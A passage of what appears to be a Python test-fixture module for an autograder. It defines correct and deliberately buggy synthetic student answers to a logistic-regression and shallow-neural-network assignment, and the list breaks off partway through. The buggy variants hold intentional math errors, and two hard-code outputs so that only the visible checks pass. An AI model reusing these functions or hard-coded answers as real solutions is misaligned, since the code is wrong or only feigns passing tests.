"""Synthetic students of the W1-S3 assignment, described once for the demo and the tests.

Each variant replaces some functions of the model answers (see `submissions.apply_changes`)
and names the grade cells it must fail; every other grade cell must give full marks.
Correct variants fail nothing, whatever their style.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from . import blind

PART1_CHECKS = (
    "test_s_at_zero",
    "test_s_properties",
    "test_s_values",
    "test_l_l2_at_half",
    "test_l_l2_limits",
    "test_l_l2_values",
    "test_logistic_regression_boundary",
    "test_logistic_regression_values",
    "test_predict_samples_lecture",
    "test_predict_samples_values",
    "test_log_likelihood_coin_flip",
    "test_log_likelihood_values",
    "test_log_likelihood_prefers_true_labels",
)
PART2_CHECKS = (
    "test_init_shapes",
    "test_init_draw_order",
    "test_init_lecture_losses",
    "test_forward_example",
    "test_forward_values",
    "test_mse_loss_example",
    "test_mse_loss_values",
    "test_backward_example",
    "test_backward_gradient",
    "test_backward_refreshes_loss",
    "test_backward_lecture_steps",
    "test_train_example",
    "test_train_decreases",
    "test_train_early_stopping",
    "test_train_follows_arguments",
    "test_train_display",
)


@dataclass(frozen=True)
class Variant:
    """One synthetic student: what differs from the model answers, and what must fail."""

    name: str
    description: str
    changes: dict[str, str] = field(default_factory=dict)
    fails: frozenset[str] = frozenset()
    blank: bool = False
    # breaks the handed-in files themselves: damage(submission folder)
    damage: Callable[[Path], None] | None = None
    # a trick: the honest variant with the same wrong answers, which it must not outscore
    twin: str | None = None
    # the "likely mistake"s its failed checks must name (each the start of one), and no other
    diagnoses: tuple[str, ...] = ()


def _fails(*cells: str) -> frozenset[str]:
    unknown = set(cells) - set(PART1_CHECKS) - set(PART2_CHECKS)
    if unknown:
        raise ValueError(f"unknown grade cells: {sorted(unknown)}")
    return frozenset(cells)


# A train written for several variants below, with one line changed each time.
_TRAIN = """
def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5, display=True):
    self.losses_list = [self.loss]
    for iteration_number in range(1, N_max + 1):
        self.backward(inputs, outputs, alpha)
        self.losses_list.append(self.loss)
        if display:
            print("Iteration {} - Loss = {}".format(iteration_number, self.loss))
        if abs(self.losses_list[-1] - self.losses_list[-2]) < delta:
            break
    return self.losses_list
"""

# A backward with the lecture's structure, for the variants that break one of its lines.
_BACKWARD = """
def backward(self, inputs, outputs, alpha=1e-5):
    m = inputs.shape[0]
    Z1_b = inputs @ self.W1 + self.b1
    epsilon = Z1_b @ self.W2 + self.b2 - outputs
    dL_dW2 = (2 / m) * Z1_b.T @ epsilon
    dL_db2 = (2 / m) * epsilon.sum(axis=0, keepdims=True)
    dL_dZ1 = epsilon @ self.W2.T
    dL_dW1 = (2 / m) * inputs.T @ dL_dZ1
    dL_db1 = (2 / m) * dL_dZ1.sum(axis=0, keepdims=True)
    self.W1 = self.W1 - alpha * dL_dW1
    self.b1 = self.b1 - alpha * dL_db1
    self.W2 = self.W2 - alpha * dL_dW2
    self.b2 = self.b2 - alpha * dL_db2
    self.MSE_loss(inputs, outputs)
"""


def _edit(template: str, old: str, new: str) -> str:
    if old not in template:
        raise ValueError(f"{old!r} is not in the template")
    return template.replace(old, new)


CORRECT = [
    Variant("model", "the model answers of the source notebooks"),
    Variant(
        "mse-keepdims",
        "MSE_loss keeps its dimensions: the loss is a (1, 1) array, accepted wherever a loss is",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    self.loss = np.mean((self.forward(inputs) - outputs) ** 2, keepdims=True)\n"
            "    return self.loss"
        },
    ),
    Variant(
        "sigmoid-exp-over",
        "s(x) = exp(x) / (1 + exp(x)), the lecture's second formula",
        {"s": "def s(x):\n    return np.exp(x) / (1 + np.exp(x))"},
    ),
    Variant(
        "sigmoid-tanh",
        "s through tanh, and l2 through log1p",
        {
            "s": "def s(x):\n    return 0.5 * (1 + np.tanh(np.asarray(x) / 2))",
            "l2": "def l2(x):\n    return np.log1p(-np.asarray(x))",
        },
    ),
    Variant(
        "vectorised-part1",
        "numpy arrays everywhere: predictions as an int array, the loss through np.where",
        {
            "predict_samples": (
                "def predict_samples(inputs, a, b):\n"
                "    return (logistic_regression(np.asarray(inputs), a, b) >= 0.5).astype(int)"
            ),
            "log_likelihood_loss": (
                "def log_likelihood_loss(a, b, x, y):\n"
                "    p = logistic_regression(x, a, b)\n"
                "    return -np.mean(np.where(y == 1, np.log(p), np.log(1 - p)))"
            ),
        },
    ),
    Variant(
        "loops-part1",
        "plain Python loops: a strict > 0.5 and a loss summed by hand with l and l2",
        {
            "predict_samples": (
                "def predict_samples(inputs, a, b):\n"
                "    classes = []\n"
                "    for x in inputs:\n"
                "        classes.append(1 if logistic_regression(x, a, b) >= 0.5 else 0)\n"
                "    return classes"
            ),
            "log_likelihood_loss": (
                "def log_likelihood_loss(a, b, x, y):\n"
                "    total = 0.0\n"
                "    for xi, yi in zip(x, y):\n"
                "        p = logistic_regression(xi, a, b)\n"
                "        total += yi * l(p) + (1 - yi) * l2(p)\n"
                "    return -total / len(x)"
            ),
        },
    ),
    Variant(
        "matmul-operator",
        "the @ operator and np.mean for the loss",
        {
            "ShallowNeuralNet.forward": (
                "def forward(self, inputs):\n    return (inputs @ self.W1 + self.b1) @ self.W2 + self.b2"
            ),
            "ShallowNeuralNet.MSE_loss": (
                "def MSE_loss(self, inputs, outputs):\n"
                "    self.loss = np.mean((self.forward(inputs) - outputs.reshape(-1, 1)) ** 2)\n"
                "    return self.loss"
            ),
            "ShallowNeuralNet.backward": _BACKWARD,
        },
    ),
    Variant(
        "np-dot",
        "np.dot throughout, and np.random.normal(0, 0.1, size) for the parameters",
        {
            "ShallowNeuralNet.__init__": (
                "def __init__(self, n_x, n_h, n_y):\n"
                "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
                "    self.W1 = np.random.normal(0, 0.1, (n_x, n_h))\n"
                "    self.b1 = np.random.normal(0, 0.1, (1, n_h))\n"
                "    self.W2 = np.random.normal(0, 0.1, (n_h, n_y))\n"
                "    self.b2 = np.random.normal(0, 0.1, (1, n_y))\n"
                "    self.loss = float('inf')"
            ),
            "ShallowNeuralNet.forward": (
                "def forward(self, inputs):\n"
                "    return np.dot(np.dot(inputs, self.W1) + self.b1, self.W2) + self.b2"
            ),
            "ShallowNeuralNet.backward": _BACKWARD.replace(
                "Z1_b.T @ epsilon", "np.dot(Z1_b.T, epsilon)"
            )
            .replace("epsilon @ self.W2.T", "np.dot(epsilon, self.W2.T)")
            .replace("inputs.T @ dL_dZ1", "np.dot(inputs.T, dL_dZ1)"),
        },
    ),
    Variant(
        "loop-gradients",
        "backward that accumulates gradients sample by sample, and a float loss",
        {
            "ShallowNeuralNet.MSE_loss": (
                "def MSE_loss(self, inputs, outputs):\n"
                "    pred = self.forward(inputs)\n"
                "    total = 0.0\n"
                "    for p, y in zip(pred[:, 0], outputs[:, 0]):\n"
                "        total += float(p - y) ** 2\n"
                "    self.loss = total / len(outputs)\n"
                "    return self.loss"
            ),
            "ShallowNeuralNet.backward": (
                "def backward(self, inputs, outputs, alpha=1e-5):\n"
                "    m = len(inputs)\n"
                "    grads = [np.zeros_like(p) for p in (self.W1, self.b1, self.W2, self.b2)]\n"
                "    for x, y in zip(inputs, outputs):\n"
                "        x = x.reshape(1, -1)\n"
                "        hidden = x @ self.W1 + self.b1\n"
                "        error = hidden @ self.W2 + self.b2 - y\n"
                "        back = error @ self.W2.T\n"
                "        for g, d in zip(grads, (x.T @ back, back, hidden.T @ error, error)):\n"
                "            g += 2 * d / m\n"
                "    self.W1 = self.W1 - alpha * grads[0]\n"
                "    self.b1 = self.b1 - alpha * grads[1]\n"
                "    self.W2 = self.W2 - alpha * grads[2]\n"
                "    self.b2 = self.b2 - alpha * grads[3]\n"
                "    self.MSE_loss(inputs, outputs)"
            ),
        },
    ),
    Variant(
        "while-trainer",
        "train with a while loop, f-strings, and the forward pass reused inside backward",
        {
            "ShallowNeuralNet.train": (
                "def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5, display=True):\n"
                "    self.losses_list = [self.loss]\n"
                "    step = 0\n"
                "    while step < N_max:\n"
                "        step += 1\n"
                "        self.backward(inputs, outputs, alpha=alpha)\n"
                "        self.losses_list.append(self.loss)\n"
                "        if display:\n"
                "            print(f'Iteration {step} - Loss = {self.loss}')\n"
                "        if abs(self.losses_list[-2] - self.losses_list[-1]) < delta:\n"
                "            break\n"
                "    return self.losses_list"
            ),
            "ShallowNeuralNet.backward": _edit(
                _BACKWARD,
                "    Z1_b = inputs @ self.W1 + self.b1\n    epsilon = Z1_b @ self.W2 + self.b2 - outputs",
                "    Z1_b = inputs @ self.W1 + self.b1\n    epsilon = self.forward(inputs) - outputs",
            ),
        },
    ),
    Variant(
        "copying-updates",
        "train from the lecture, without its closing messages",
        {"ShallowNeuralNet.train": _TRAIN},
    ),
    Variant(
        "python-floats",
        "math-style scalars: l and l2 through np.log on floats, losses returned as Python floats",
        {
            "l": "def l(x):\n    return np.log(np.asarray(x, dtype=float))",
            "log_likelihood_loss": (
                "def log_likelihood_loss(a, b, x, y):\n"
                "    p = logistic_regression(x, a, b)\n"
                "    return float(-(y * np.log(p) + (1 - y) * np.log(1 - p)).sum() / len(y))"
            ),
            "ShallowNeuralNet.MSE_loss": (
                "def MSE_loss(self, inputs, outputs):\n"
                "    self.loss = float(((self.forward(inputs) - outputs) ** 2).mean())\n"
                "    return self.loss"
            ),
        },
    ),
    # Styles written independently of the model answers (part 1: sigmoid, logs, the loss).
    Variant(
        "stable-sigmoid",
        "a sigmoid that never overflows: np.where over -|x|, for both signs",
        {
            "s": "def s(x):\n"
            "    e = np.exp(-np.abs(x))\n"
            "    return np.where(np.asarray(x) >= 0, 1 / (1 + e), e / (1 + e))"
        },
    ),
    Variant(
        "log1p-logs",
        "l and l2 through np.log1p, predictions through np.where",
        {
            "l": "def l(x):\n    return np.log1p(np.asarray(x) - 1)",
            "l2": "def l2(x):\n    return np.log1p(-np.asarray(x))",
            "predict_samples": "def predict_samples(inputs, a, b):\n"
            "    return np.where(logistic_regression(np.asarray(inputs), a, b) >= 0.5, 1, 0)",
        },
    ),
    Variant(
        "own-logs-loss",
        "the loss written with the student's own l and l2",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    return -np.mean(y * l(p) + (1 - y) * l2(p))"
        },
    ),
    Variant(
        "inline-dot-loss",
        "logistic_regression written out without s, the loss through np.dot",
        {
            "logistic_regression": "def logistic_regression(x, a, b):\n"
            "    return 1.0 / (1.0 + np.exp(-(a * x + b)))",
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    y = np.asarray(y, dtype=float)\n"
            "    return -(np.dot(y, np.log(p)) + np.dot(1 - y, np.log(1 - p))) / len(y)",
        },
    ),
    # Styles of part 2.
    Variant(
        "cached-forward",
        "forward keeps self.Z1_b and self.Y_pred; backward calls self.forward and reads them",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
            "    self.Z1_b = inputs @ self.W1 + self.b1\n"
            "    self.Y_pred = self.Z1_b @ self.W2 + self.b2\n"
            "    return self.Y_pred",
            "ShallowNeuralNet.backward": "def backward(self, inputs, outputs, alpha=1e-5):\n"
            "    self.forward(inputs)\n"
            "    m = len(inputs)\n"
            "    error = self.Y_pred - outputs\n"
            "    back = error @ self.W2.T\n"
            "    self.W2 = self.W2 - alpha * (2 / m) * (self.Z1_b.T @ error)\n"
            "    self.b2 = self.b2 - alpha * (2 / m) * error.sum(axis=0, keepdims=True)\n"
            "    self.W1 = self.W1 - alpha * (2 / m) * (inputs.T @ back)\n"
            "    self.b1 = self.b1 - alpha * (2 / m) * back.sum(axis=0, keepdims=True)\n"
            "    self.MSE_loss(inputs, outputs)",
        },
    ),
    Variant(
        "helper-methods",
        "forward through two layer methods; backward through a _gradients method and setattr",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
            "    return self._layer2(self._layer1(inputs))\n\n"
            "def _layer1(self, inputs):\n"
            "    return np.matmul(inputs, self.W1) + self.b1\n\n"
            "def _layer2(self, hidden):\n"
            "    return np.matmul(hidden, self.W2) + self.b2",
            "ShallowNeuralNet.backward": "def backward(self, inputs, outputs, alpha=1e-5):\n"
            "    grads = self._gradients(inputs, outputs)\n"
            "    for name in ('W1', 'b1', 'W2', 'b2'):\n"
            "        setattr(self, name, getattr(self, name) - alpha * grads[name])\n"
            "    self.MSE_loss(inputs, outputs)\n\n"
            "def _gradients(self, inputs, outputs):\n"
            "    m = inputs.shape[0]\n"
            "    hidden = self._layer1(inputs)\n"
            "    error = self._layer2(hidden) - outputs\n"
            "    back = np.matmul(error, self.W2.T)\n"
            "    return {\n"
            "        'W1': 2 / m * np.matmul(inputs.T, back),\n"
            "        'b1': 2 / m * back.sum(axis=0, keepdims=True),\n"
            "        'W2': 2 / m * np.matmul(hidden.T, error),\n"
            "        'b2': 2 / m * error.sum(axis=0, keepdims=True),\n"
            "    }",
        },
    ),
    Variant(
        "gradients-on-self",
        "backward stores self.dW1 ... self.db2, then an apply_gradients method steps",
        {
            "ShallowNeuralNet.backward": "def backward(self, inputs, outputs, alpha=1e-5):\n"
            "    m = inputs.shape[0]\n"
            "    hidden = np.dot(inputs, self.W1) + self.b1\n"
            "    delta2 = (2 / m) * (np.dot(hidden, self.W2) + self.b2 - outputs)\n"
            "    self.dW2 = np.dot(hidden.T, delta2)\n"
            "    self.db2 = np.sum(delta2, axis=0, keepdims=True)\n"
            "    delta1 = np.dot(delta2, self.W2.T)\n"
            "    self.dW1 = np.dot(inputs.T, delta1)\n"
            "    self.db1 = np.sum(delta1, axis=0, keepdims=True)\n"
            "    self.apply_gradients(alpha)\n"
            "    self.MSE_loss(inputs, outputs)\n\n"
            "def apply_gradients(self, alpha):\n"
            "    self.W1 = self.W1 - alpha * self.dW1\n"
            "    self.b1 = self.b1 - alpha * self.db1\n"
            "    self.W2 = self.W2 - alpha * self.dW2\n"
            "    self.b2 = self.b2 - alpha * self.db2",
        },
    ),
    Variant(
        "in-place-updates",
        "parameters updated in place with np.subtract(..., out=...) and -=",
        {
            "ShallowNeuralNet.backward": _BACKWARD.replace(
                "    self.W1 = self.W1 - alpha * dL_dW1\n",
                "    np.subtract(self.W1, alpha * dL_dW1, out=self.W1)\n",
            )
            .replace("    self.b1 = self.b1 - alpha * dL_db1\n", "    self.b1 -= alpha * dL_db1\n")
            .replace(
                "    self.W2 = self.W2 - alpha * dL_dW2\n",
                "    np.subtract(self.W2, alpha * dL_dW2, out=self.W2)\n",
            )
            .replace("    self.b2 = self.b2 - alpha * dL_db2\n", "    self.b2 -= alpha * dL_db2\n")
        },
    ),
    Variant(
        "sample-loop-mse",
        "MSE_loss sums the squared error sample by sample, one forward call each",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    total = 0.0\n"
            "    for x, y in zip(inputs, outputs):\n"
            "        pred = self.forward(x.reshape(1, -1))\n"
            "        total += np.sum((pred - np.reshape(y, (1, -1))) ** 2)\n"
            "    self.loss = total / len(inputs)\n"
            "    return self.loss"
        },
    ),
    Variant(
        "flat-outputs",
        "MSE_loss and backward accept outputs of shape (m,) as well as (m, 1)",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    pred = self.forward(inputs).reshape(len(inputs), -1)\n"
            "    target = np.asarray(outputs).reshape(len(inputs), -1)\n"
            "    self.loss = np.mean(np.sum((pred - target) ** 2, axis=1))\n"
            "    return self.loss",
            "ShallowNeuralNet.backward": _edit(
                _BACKWARD,
                "    m = inputs.shape[0]\n",
                "    m = inputs.shape[0]\n    outputs = np.asarray(outputs).reshape(m, -1)\n",
            ),
        },
    ),
    Variant(
        "for-else-trainer",
        "train with enumerate and for/else, its messages only with display",
        {
            "ShallowNeuralNet.train": "def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5,"
            " display=True):\n"
            "    losses = [self.loss]\n"
            "    for step, _ in enumerate(range(N_max), start=1):\n"
            "        self.backward(inputs, outputs, alpha=alpha)\n"
            "        losses.append(self.loss)\n"
            "        if display:\n"
            "            print(f'step {step}: loss {self.loss:.6f}')\n"
            "        if abs(losses[-2] - losses[-1]) < delta:\n"
            "            if display:\n"
            "                print('converged')\n"
            "            break\n"
            "    else:\n"
            "        if display:\n"
            "            print('N_max reached')\n"
            "    self.losses_list = losses\n"
            "    return losses"
        },
    ),
    Variant(
        "losses-from-init",
        "__init__ creates self.losses_list (parameters drawn through setattr in a loop); train"
        " empties and refills it, as Python floats",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    for name, shape in (('W1', (n_x, n_h)), ('b1', (1, n_h)), ('W2', (n_h, n_y)),"
            " ('b2', (1, n_y))):\n"
            "        setattr(self, name, np.random.randn(*shape) * 0.1)\n"
            "    self.loss = np.inf\n"
            "    self.losses_list = []",
            "ShallowNeuralNet.train": "def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5,"
            " display=True):\n"
            "    self.losses_list.clear()\n"
            "    self.losses_list.append(float(self.loss))\n"
            "    while len(self.losses_list) <= N_max:\n"
            "        self.backward(inputs, outputs, alpha)\n"
            "        self.losses_list.append(float(self.loss))\n"
            "        if display:\n"
            "            print('Iteration', len(self.losses_list) - 1, '- Loss =', self.loss)\n"
            "        if abs(self.losses_list[-1] - self.losses_list[-2]) < delta:\n"
            "            break\n"
            "    return self.losses_list",
        },
    ),
    Variant(
        "cached-prediction-mse",
        "forward keeps its last prediction; MSE_loss calls it and reads self.last_prediction",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
            "    hidden = np.matmul(inputs, self.W1) + self.b1\n"
            "    self.last_prediction = np.matmul(hidden, self.W2) + self.b2\n"
            "    return self.last_prediction",
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    self.forward(inputs)\n"
            "    squared = np.square(self.last_prediction - outputs.reshape(len(outputs), -1))\n"
            "    self.loss = squared.sum() / squared.shape[0]\n"
            "    return self.loss",
        },
    ),
    Variant(
        "standard-normal-init",
        "np.random.standard_normal(shape) / 10 for each parameter, np.inf for the loss",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x = n_x\n"
            "    self.n_h = n_h\n"
            "    self.n_y = n_y\n"
            "    self.W1 = np.random.standard_normal((n_x, n_h)) / 10\n"
            "    self.b1 = np.random.standard_normal((1, n_h)) / 10\n"
            "    self.W2 = np.random.standard_normal((n_h, n_y)) / 10\n"
            "    self.b2 = np.random.standard_normal((1, n_y)) / 10\n"
            "    self.loss = np.inf"
        },
    ),
    Variant(
        "einsum-net",
        "forward and backward through np.einsum, normal(loc, scale, size) keywords in __init__",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    self.W1 = np.random.normal(loc=0.0, scale=0.1, size=(n_x, n_h))\n"
            "    self.b1 = np.random.normal(loc=0.0, scale=0.1, size=(1, n_h))\n"
            "    self.W2 = np.random.normal(loc=0.0, scale=0.1, size=(n_h, n_y))\n"
            "    self.b2 = np.random.normal(loc=0.0, scale=0.1, size=(1, n_y))\n"
            "    self.loss = float('inf')",
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
            "    hidden = np.einsum('mi,ih->mh', inputs, self.W1) + self.b1\n"
            "    return np.einsum('mh,hy->my', hidden, self.W2) + self.b2",
            "ShallowNeuralNet.backward": "def backward(self, inputs, outputs, alpha=1e-5):\n"
            "    m = inputs.shape[0]\n"
            "    hidden = np.einsum('mi,ih->mh', inputs, self.W1) + self.b1\n"
            "    error = np.einsum('mh,hy->my', hidden, self.W2) + self.b2 - outputs\n"
            "    back = np.einsum('my,hy->mh', error, self.W2)\n"
            "    self.W1 = self.W1 - alpha * 2 / m * np.einsum('mi,mh->ih', inputs, back)\n"
            "    self.b1 = self.b1 - alpha * 2 / m * np.einsum('mh->h', back)[None, :]\n"
            "    self.W2 = self.W2 - alpha * 2 / m * np.einsum('mh,my->hy', hidden, error)\n"
            "    self.b2 = self.b2 - alpha * 2 / m * np.einsum('my->y', error)[None, :]\n"
            "    self.MSE_loss(inputs, outputs)",
        },
    ),
    Variant(
        "mean-mse-python-loop-train",
        "MSE_loss as np.mean over samples of summed squares; train with a plain counter loop"
        " and the loss kept as a Python float",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    errors = self.forward(inputs) - outputs\n"
            "    self.loss = float(np.mean(np.sum(errors * errors, axis=1)))\n"
            "    return self.loss",
            "ShallowNeuralNet.train": "def train(self, inputs, outputs, N_max=1000, alpha=1e-5, delta=1e-5,"
            " display=True):\n"
            "    self.losses_list = [self.loss]\n"
            "    count = 0\n"
            "    while True:\n"
            "        if count == N_max:\n"
            "            break\n"
            "        count += 1\n"
            "        previous = self.loss\n"
            "        self.backward(inputs, outputs, alpha)\n"
            "        self.losses_list.append(self.loss)\n"
            "        if display:\n"
            "            print('Iteration %d - Loss = %s' % (count, self.loss))\n"
            "        if abs(previous - self.loss) < delta:\n"
            "            break\n"
            "    return self.losses_list",
        },
    ),
]

# A wrong s costs the checks of s alone (the others that run s are lent the lecture's).
_S_FAILS = _fails("test_s_at_zero", "test_s_properties", "test_s_values")
_L_CHECKS = ("test_l_l2_at_half", "test_l_l2_limits", "test_l_l2_values")
_LOSS_CHECKS = (
    "test_log_likelihood_coin_flip",
    "test_log_likelihood_values",
    "test_log_likelihood_prefers_true_labels",
)
_TRAIN_CHECKS = (
    "test_train_example",
    "test_train_decreases",
    "test_train_early_stopping",
    "test_train_follows_arguments",
    "test_train_display",
)
_STEP_CHECKS = (
    "test_backward_example",
    "test_backward_gradient",
    "test_backward_lecture_steps",
)

# A sigmoid without its "1 +", shared by the variants that hand it in beside other damage.
_SIGMOID_NO_ONE = {"s": "def s(x):\n    return 1 / np.exp(-x)"}

_FORWARD_NO_B1 = "def forward(self, inputs):\n    return np.matmul(np.matmul(inputs, self.W1), self.W2) + self.b2"
_FORWARD_NO_B1_FAILS = _fails("test_forward_example", "test_forward_values")

# Pieces shared by the twins, the tricks and the isolation pairs below.
_SIGMOID_TYPO = {"s": "def s(x):\n    return 1 / (1 + np.exp(-X))"}
_LOGISTIC_INLINE = "def logistic_regression(x, a, b):\n    return 1 / (1 + np.exp(-(a * x + b)))"
_LOSS_WITH_LOGS = (
    "def log_likelihood_loss(a, b, x, y):\n"
    "    p = logistic_regression(x, a, b)\n"
    "    return -np.mean(y * l(p) + (1 - y) * l2(p))"
)
_MSE_INLINE = (
    "def MSE_loss(self, inputs, outputs):\n"
    "    pred = (inputs @ self.W1 + self.b1) @ self.W2 + self.b2\n"
    "    self.loss = np.sum((pred - outputs.reshape(len(outputs), -1)) ** 2) / len(outputs)\n"
    "    return self.loss"
)
_BACKWARD_TYPO = _edit(_BACKWARD, "inputs @ self.W1 + self.b1", "inputs @ self.w1 + self.b1")
_BACKWARD_BROKEN_FAILS = _fails(*_STEP_CHECKS, "test_backward_refreshes_loss")
_BACKWARD_ASCENT_FAILS = _fails(*_STEP_CHECKS)

BUGGY = [
    Variant(
        "blank",
        "the release handed in untouched",
        blank=True,
        fails=_fails(*PART1_CHECKS, *PART2_CHECKS),
    ),
    Variant(
        "sigmoid-sign",
        "s(x) = 1 / (1 + exp(x)): a lost minus sign",
        {"s": "def s(x):\n    return 1 / (1 + np.exp(x))"},
        _fails("test_s_properties", "test_s_values"),
    ),
    Variant(
        "sigmoid-math-exp",
        "math.exp: right on numbers, fails on arrays",
        {"s": "def s(x):\n    import math\n    return 1 / (1 + math.exp(-x))"},
        _fails("test_s_properties", "test_s_values"),
        diagnoses=("works on single numbers only",),
    ),
    Variant(
        "sigmoid-no-one",
        "s(x) = 1 / exp(-x): the 1 + is missing",
        _SIGMOID_NO_ONE,
        _S_FAILS,
    ),
    Variant(
        "sigmoid-hard-coded",
        "s returns 0.5, the one value the visible check asks for",
        {"s": "def s(x):\n    return 0.5"},
        _fails("test_s_properties", "test_s_values"),
    ),
    Variant(
        "logistic-swapped",
        "l and l2 swapped",
        {"l": "def l(x):\n    return np.log(1 - x)", "l2": "def l2(x):\n    return np.log(x)"},
        _fails("test_l_l2_limits", "test_l_l2_values"),
    ),
    Variant(
        "l2-negated",
        "l2(x) = -ln(1 - x)",
        {"l2": "def l2(x):\n    return -np.log(1 - x)"},
        _fails(*_L_CHECKS),
        diagnoses=("the opposite sign",),
    ),
    Variant(
        "l-math-log",
        "math.log: right on numbers, fails on arrays",
        {"l": "def l(x):\n    import math\n    return math.log(x)"},
        _fails("test_l_l2_values"),
        diagnoses=("works on single numbers only",),
    ),
    Variant(
        "l2-wrong-order",
        "l2(x) = ln(x - 1): nan on (0, 1)",
        {"l2": "def l2(x):\n    return np.log(x - 1)"},
        _fails(*_L_CHECKS),
    ),
    Variant(
        "logreg-no-bias",
        "p(x) = s(a x): the bias is forgotten",
        {"logistic_regression": "def logistic_regression(x, a, b):\n    return s(a * x)"},
        _fails("test_logistic_regression_boundary", "test_logistic_regression_values"),
    ),
    Variant(
        "logreg-no-sigmoid",
        "p(x) = a x + b: the logit, not a probability",
        {"logistic_regression": "def logistic_regression(x, a, b):\n    return a * x + b"},
        _fails("test_logistic_regression_boundary", "test_logistic_regression_values"),
    ),
    Variant(
        "predict-inverted",
        "class 1 when p(x) < 0.5",
        {
            "predict_samples": "def predict_samples(inputs, a, b):\n"
            "    return [int(logistic_regression(x, a, b) < 0.5) for x in inputs]"
        },
        _fails("test_predict_samples_lecture", "test_predict_samples_values"),
    ),
    Variant(
        "predict-probabilities",
        "returns probabilities instead of classes",
        {
            "predict_samples": "def predict_samples(inputs, a, b):\n"
            "    return [logistic_regression(x, a, b) for x in inputs]"
        },
        _fails("test_predict_samples_lecture", "test_predict_samples_values"),
    ),
    Variant(
        "predict-hard-coded",
        "returns the lecture's printed list whatever the inputs",
        {
            "predict_samples": "def predict_samples(inputs, a, b):\n    return [1, 1, 1, 1, 1, 1, 1, 0, 1, 1, 1, "
            "1, 1, 1, 0, 0, 1, 1, 0, 0, 0, 0, 1, 0, 0, 1, 0, 1, 1, 1, 0, 1, 1, 1, 1, 1, 1, 1, "
            "0, 0, 1, 1, 0, 0, 1, 1, 1, 1, 1, 1]"
        },
        # the visible check's lecture figures pass, its hidden part on other data does not
        _fails("test_predict_samples_lecture", "test_predict_samples_values"),
    ),
    Variant(
        "loss-slide-typo",
        "the slides' typo: x_i in front of the logs instead of y_i",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    return -np.mean(x * np.log(p) + (1 - x) * np.log(1 - p))"
        },
        _fails("test_log_likelihood_values", "test_log_likelihood_prefers_true_labels"),
        diagnoses=("the slides' typo",),
    ),
    Variant(
        "loss-no-minus",
        "the log-likelihood itself, not multiplied by -1",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    return np.mean(y * np.log(p) + (1 - y) * np.log(1 - p))"
        },
        _fails(*_LOSS_CHECKS),
        diagnoses=("the opposite sign",),
    ),
    Variant(
        "loss-sum",
        "sum instead of mean",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    return -np.sum(y * np.log(p) + (1 - y) * np.log(1 - p))"
        },
        _fails("test_log_likelihood_coin_flip", "test_log_likelihood_values"),
        diagnoses=(
            "off by a factor of 4 (a sum for a mean)",
            "off by a factor of 50 (a sum for a mean)",
        ),
    ),
    Variant(
        "loss-logs-swapped",
        "y weighs ln(1 - p) and 1 - y weighs ln(p)",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = logistic_regression(x, a, b)\n"
            "    return -np.mean(y * np.log(1 - p) + (1 - y) * np.log(p))"
        },
        _fails("test_log_likelihood_values", "test_log_likelihood_prefers_true_labels"),
    ),
    Variant(
        "init-order",
        "draws b1 before W1",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    self.b1 = np.random.randn(1, n_h) * 0.1\n"
            "    self.W1 = np.random.randn(n_x, n_h) * 0.1\n"
            "    self.W2 = np.random.randn(n_h, n_y) * 0.1\n"
            "    self.b2 = np.random.randn(1, n_y) * 0.1\n"
            "    self.loss = float('inf')"
        },
        _fails("test_init_draw_order", "test_init_lecture_losses"),
    ),
    Variant(
        "init-unscaled",
        "forgets the * 0.1",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    self.W1 = np.random.randn(n_x, n_h)\n"
            "    self.b1 = np.random.randn(1, n_h)\n"
            "    self.W2 = np.random.randn(n_h, n_y)\n"
            "    self.b2 = np.random.randn(1, n_y)\n"
            "    self.loss = float('inf')"
        },
        _fails("test_init_draw_order", "test_init_lecture_losses"),
        diagnoses=("off by a constant factor of 10",),
    ),
    Variant(
        "init-transposed",
        "W1 of shape (n_h, n_x)",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    self.W1 = np.random.randn(n_h, n_x) * 0.1\n"
